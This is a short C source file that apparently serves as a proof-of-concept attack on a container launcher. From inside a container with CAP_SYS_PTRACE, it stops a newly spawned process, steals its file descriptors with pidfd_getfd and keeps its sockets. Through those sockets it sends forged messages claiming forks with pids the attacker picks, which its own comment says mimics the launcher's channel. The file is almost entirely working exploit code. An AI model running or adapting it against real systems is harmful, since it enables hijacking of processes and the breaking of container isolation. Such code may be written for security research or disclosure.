/* In the container, with CAP_SYS_PTRACE: stops whatever appears, takes its sockets, and says by
 * them what the launcher of 0.1 said by its channel: that it has forked, with pids of the
 * attacker's choice. steal PID...: says what it took, a line each. */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char** argv) {
  const int base = fork();
  if (base == 0) _exit(0);
  wait(0);
  puts("ready");
  fflush(stdout);
  int pid = base + 1;
  while (kill(pid, SIGSTOP) != 0) {
  }
  char path[32], state = 0;
  snprintf(path, sizeof path, "/proc/%d/stat", pid);
  for (int i = 0; i < 1000 && state != 'T' && state != 'Z'; i++) { /* it goes on for a moment */
    FILE* stat = fopen(path, "r");
    if (stat == NULL || fscanf(stat, "%*d (%*[^)]) %c", &state) != 1) state = 'Z';
    if (stat != NULL) fclose(stat);
    usleep(1000);
  }
  const int pidfd = syscall(SYS_pidfd_open, pid, 0);
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  struct stat exe; /* its path may be that of a mount of it alone: `/` */
  if (stat(path, &exe) == 0) printf("is %lu %lu\n", exe.st_dev, exe.st_ino);
  int sockets[64], count = 0;
  for (int fd = 0; fd < 64; fd++) {
    struct stat stat;
    const int taken = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    if (taken < 0 || fstat(taken, &stat) != 0) continue;
    printf("fd %d %o\n", fd, stat.st_mode & S_IFMT);
    if (S_ISSOCK(stat.st_mode)) sockets[count++] = taken;
  }
  fflush(stdout);
  kill(pid, SIGCONT);
  usleep(600000);
  for (int i = 0; i < count; i++) {
    for (int n = 1; n < argc + 1; n++) { /* the last once more: each kills the one before it */
      const int words[3] = {0, 0, atoi(argv[n < argc ? n : argc - 1])};
      send(sockets[i], words, sizeof words, MSG_NOSIGNAL | MSG_DONTWAIT);
    }
  }
  puts("said");
  fflush(stdout);
  for (;;) pause();
}
